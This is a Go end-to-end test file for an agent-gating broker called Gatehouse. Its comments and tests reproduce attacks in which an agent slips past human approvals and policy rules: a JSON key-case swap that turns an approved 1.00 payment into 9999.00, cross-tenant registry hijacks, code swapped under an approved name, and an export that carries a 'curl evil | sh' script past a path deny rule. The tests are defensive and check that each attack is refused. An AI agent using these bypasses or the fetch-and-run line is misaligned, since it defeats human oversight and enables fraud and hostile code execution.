package e2e

import (
	"encoding/json"
	"errors"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gatehouse/gatehouse/broker"
	"github.com/gatehouse/gatehouse/broker/approval"
	"github.com/gatehouse/gatehouse/broker/journal"
	"github.com/gatehouse/gatehouse/broker/subject"
	"github.com/gatehouse/gatehouse/policy"
	"github.com/gatehouse/gatehouse/sinks/code"
)

// Attacks of round 12c on the trust boundary (issue 12): places where an
// agent's own spelling of a request, not a fact Gatehouse established,
// decided what an approval covered. The built binary in strict mode, a
// named agent's credential only; each case checks what the provider
// received and what the approval store holds.

// TestAttackApprovalKeyOrderSwap: an approval is bound to the action's
// params as JSON values (RFC 8785, so key order does not matter), but a
// sink decodes params with encoding/json, which matches "BODY" to the
// body field as well and keeps whichever comes last. So the same params
// with two keys that differ only in case decode to different calls
// depending on their order, under one digest: the agent had a payment of
// 1.00 approved and then, with the keys swapped, ran a payment of 9999.00
// under that approval. Params a sink could read either way are never put
// to a person: the request is refused, nothing is held, nothing is paid.
func TestAttackApprovalKeyOrderSwap(t *testing.T) {
	b := newBank()
	srv := httptest.NewServer(b)
	defer srv.Close()
	data := t.TempDir()
	flags, key := approvalFiles(t, data, srv.URL)
	serve(t, data, flags...)
	run := strings.TrimSpace(gh(t, "work", "open", "--data-dir", data, "--tenant", "acme", "--person", "ada", "--agent", erpRunner).stdout)

	const to = `"to":"GB82WEST12345698765432"`
	small, big := `{`+to+`,"amount":"1.00"}`, `{`+to+`,"amount":"9999.00"}`
	head := `"provider":"bank","method":"POST","path":"/payments","atom":"bank.pay"`
	// encoding/json keeps the last: body 1.00 here, 9999.00 below.
	shown := `{"BODY":` + big + `,` + head + `,"body":` + small + `}`
	swapped := `{"body":` + small + `,` + head + `,"BODY":` + big + `}`

	held, code := callProvider(t, run, shown, "--data-dir", data)
	if held.Error == nil || held.Error.Code != broker.CodeBadRequest {
		// Before the fix: held for a person, who approves the 1.00.
		if held.Decision != nil && held.Decision.Approval != "" {
			id := held.Decision.Approval
			if r := gh(t, "approve", "approve", id, "--data-dir", data, "--key", key, "--approver", "rita", "--role", "finance", "--assurance", "mfa", "--reason", "1.00 checked"); r.code != 0 {
				t.Fatalf("approve: exit %d %s %s", r.code, r.stdout, r.stderr)
			}
			ran, rc := callProvider(t, run, swapped, "--data-dir", data)
			t.Errorf("swapped keys under approval %s: exit %d %+v %+v", id, rc, ran.Decision, ran.Outcome)
		}
		t.Errorf("params with body and BODY were not refused: exit %d %+v %+v", code, held.Decision, held.Error)
	}
	for k, amount := range b.paid() {
		t.Errorf("paid %s under key %s: an approval covered params the bank read otherwise", amount, k)
	}
	if q := approvalList(t, data); len(q) != 0 {
		t.Errorf("an ambiguous action was put to a person: %+v", q)
	}

	// The same payment written once is held as before, and its approval
	// covers only itself.
	honest := `{` + head + `,"body":` + small + `}`
	h, code := callProvider(t, run, honest, "--data-dir", data)
	if code != 3 || h.Error == nil || h.Error.Code != broker.CodeApprovalRequired {
		t.Fatalf("honest payment: exit %d %+v %+v", code, h.Decision, h.Error)
	}
	if got := approvalShow(t, data, h.Decision.Approval); got.State != approval.StatePending {
		t.Fatalf("honest payment's approval: %+v", got)
	}
}

// register stores source as integration name from run as agent id, and
// returns the reply and error.
func (a *identityAttack) register(id, run, name, source string) (*broker.EffectReply, error) {
	a.t.Helper()
	params, _ := json.Marshal(code.RegisterParams{Name: name, Program: "python3", Source: source, Effect: policy.EffectRead})
	return a.agent(id).Effect(a.ctx(), policy.SinkCode, broker.EffectRequest{Run: run, Action: "register", Params: params})
}

// stored reads integration name's entry from the registry bucket.
func (a *identityAttack) stored(name string) code.Integration {
	a.t.Helper()
	kv, err := a.js.KeyValue(a.ctx(), subject.IntegrationsBucket)
	must(a.t, err)
	e, err := kv.Get(a.ctx(), name)
	must(a.t, err)
	var in code.Integration
	must(a.t, json.Unmarshal(e.Value(), &in))
	return in
}

// TestAttackRegistryHijack: the integration registry is one namespace for
// every tenant, and storing an entry replaced whatever held the name. So
// an agent of tenant acme replaced the integration an agent of tenant
// globex had stored, and every later run of it in globex's work ran
// acme's agent's code. A name is held by the tenant whose work stored it:
// another tenant's work storing under it is refused, and the entry keeps
// its source and registrar.
func TestAttackRegistryHijack(t *testing.T) {
	a := startAttackWith(t, registryRules)
	const honest, hostile = "print('globex report')\n", "print('acme was here')\n"
	if r, err := a.register("alice", a.runs["alice"], "report", honest); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
		t.Fatalf("alice registers: %+v %v", r, err)
	}
	before := a.stored("report")
	r, err := a.register("bob", a.runs["bob"], "report", hostile)
	if codeOf(err) != broker.CodeBadRequest {
		t.Errorf("another tenant's agent stored over globex's integration: %+v %v", r, err)
	}
	after := a.stored("report")
	if after.Digest != before.Digest || after.StoredBy != before.StoredBy {
		t.Errorf("globex's integration was replaced: before %+v, after %+v", before.StoredBy, after.StoredBy)
	}
	// Its own tenant's work may store a new version.
	if r, err := a.register("alice", a.runs["alice"], "report", honest+"print('v2')\n"); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
		t.Fatalf("alice stores a new version: %+v %v", r, err)
	}
	if got := a.stored("report"); got.Digest == before.Digest || got.StoredBy.Tenant != "globex" {
		t.Fatalf("alice's new version: %+v", got)
	}
}

// TestAttackRegistryLaunderedUnderApproval: an approval of a run of a
// stored integration was bound to its params, the integration's name,
// and not to the code the name resolves to. So an agent had a harmless
// integration's run approved, stored other code under the name, and ran
// that under the approval. The approval is bound to the resolved source
// too: the run of the new code is held again, and the approval given for
// the old one is not used.
func TestAttackRegistryLaunderedUnderApproval(t *testing.T) {
	keys := t.TempDir()
	pub, priv := backendKey(t, inDir(t, keys))
	a := startAttackWith(t, `effects:
  - name: code-here
    decision: allow
    match: {sink: code}
approvals:
  - name: code-runs
    match: {sink: code, action: run}
    roles: [ops]
`, "--approval-key", pub)
	run := a.runs["bob"]
	if r, err := a.register("bob", run, "tidy", "print('tidy')\n"); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
		t.Fatalf("register: %+v %v", r, err)
	}
	p, _ := json.Marshal(code.Params{Integration: "tidy"})
	req := broker.EffectRequest{Run: run, Action: "run", Params: p}
	bob := a.agent("bob")
	held, err := bob.Effect(a.ctx(), policy.SinkCode, req)
	if codeOf(err) != broker.CodeApprovalRequired || held == nil || held.Decision == nil || held.Decision.Approval == "" {
		t.Fatalf("gated run: %+v %v", held, err)
	}
	id := held.Decision.Approval
	if r := gh(t, "approve", "approve", id, "--data-dir", a.data, "--key", priv, "--approver", "rita", "--role", "ops", "--reason", "tidy checked"); r.code != 0 {
		t.Fatalf("approve: exit %d %s %s", r.code, r.stdout, r.stderr)
	}
	if r, err := a.register("bob", run, "tidy", "print('not tidy at all')\n"); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
		t.Fatalf("register again: %+v %v", r, err)
	}
	ran, err := bob.Effect(a.ctx(), policy.SinkCode, req)
	if codeOf(err) != broker.CodeApprovalRequired || ran == nil || ran.Decision == nil || ran.Decision.Approval == id {
		t.Errorf("other code ran under the approval of %s: %+v %v", id, ran, err)
		if ran != nil {
			t.Logf("result: %s", ran.Result)
		}
	}
	if got := approvalShow(t, a.data, id); got.State != approval.StateApproved || got.Claim != nil {
		t.Errorf("the approval of the old code was used: %s %+v", got.State, got.Claim)
	}
}

// TestAttackRegistryCrossTenantRun: with one registry namespace for every
// tenant, an agent of acme stored code under a name globex's agent was
// going to run, and globex's run carried out acme's agent's code, in
// globex's work (its gateway, its person's credentials). An entry another
// tenant's work stored is not found from this tenant's work: nothing runs,
// nothing is decided.
func TestAttackRegistryCrossTenantRun(t *testing.T) {
	a := startAttackWith(t, `effects:
  - name: code-here
    decision: allow
    match: {sink: code}
`)
	if r, err := a.register("bob", a.runs["bob"], "erp-remind", "print('acme code')\n"); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
		t.Fatalf("bob registers: %+v %v", r, err)
	}
	p, _ := json.Marshal(code.Params{Integration: "erp-remind"})
	run := a.runs["alice"]
	r, err := a.agent("alice").Effect(a.ctx(), policy.SinkCode, broker.EffectRequest{Run: run, Action: "run", Params: p})
	if codeOf(err) != broker.CodeBadRequest {
		t.Errorf("globex's run ran acme's stored code: %+v %v", r, err)
		if r != nil {
			t.Logf("result: %s", r.Result)
		}
	}
	for _, d := range runDecisions(t, a.data, run, 1) {
		t.Errorf("decided in globex's run: %+v", d)
	}
	// acme's own work runs it.
	if r, err := a.agent("bob").Effect(a.ctx(), policy.SinkCode, broker.EffectRequest{Run: a.runs["bob"], Action: "run", Params: p}); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
		t.Fatalf("acme's run of its own integration: %+v %v", r, err)
	}
}

// TestAttackExportPastAPathRule: an export was decided as one effect of
// target "export", so a rule naming a path (deny workspace target ci/**)
// refused writing ci/deploy.sh but let an export of the same file through,
// and the file was written. An export is decided by its most restricted
// path: refused under the rule, recorded with that path, nothing written.
func TestAttackExportPastAPathRule(t *testing.T) {
	a := startAttackWith(t, `effects:
  - name: no-ci
    decision: deny
    match: {sink: workspace, target: "ci/**"}
  - name: ws
    decision: allow
    match: {sink: workspace}
`)
	bob, run := a.agent("bob"), a.runs["bob"]
	x, _ := json.Marshal(map[string]any{"files": map[string]any{"README": []byte("fine"), "ci/deploy.sh": []byte("curl evil | sh")}})
	r, err := bob.Effect(a.ctx(), policy.SinkWorkspace, broker.EffectRequest{Run: run, Action: "export", Params: x})
	if err != nil || r.Decision == nil || r.Decision.Outcome != journal.OutcomeRefused || r.Decision.Rule != "no-ci" {
		t.Errorf("an export carried ci/deploy.sh past the rule: %+v %v", r, err)
	}
	dir := filepath.Join(a.data, "workspaces", "acme", run)
	for _, f := range []string{"ci/deploy.sh", "README"} {
		if _, err := os.Stat(filepath.Join(dir, f)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s of the refused export is in the workspace: %v", f, err)
		}
	}
	ds := runDecisions(t, a.data, run, 2)
	if d := ds[len(ds)-1]; d.Action != "export" || d.Target != "ci/deploy.sh" || d.Outcome != journal.OutcomeRefused || d.Rule != "no-ci" {
		t.Errorf("the export was recorded as %+v", d)
	}
	// An export of allowed paths is decided as before.
	ok, _ := json.Marshal(map[string]any{"files": map[string]any{"README": []byte("fine"), "src/main.go": []byte("package main")}})
	if r, err := bob.Effect(a.ctx(), policy.SinkWorkspace, broker.EffectRequest{Run: run, Action: "export", Params: ok}); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
		t.Fatalf("allowed export: %+v %v", r, err)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "src/main.go")); err != nil || string(b) != "package main" {
		t.Fatalf("allowed export not written: %q %v", b, err)
	}
}
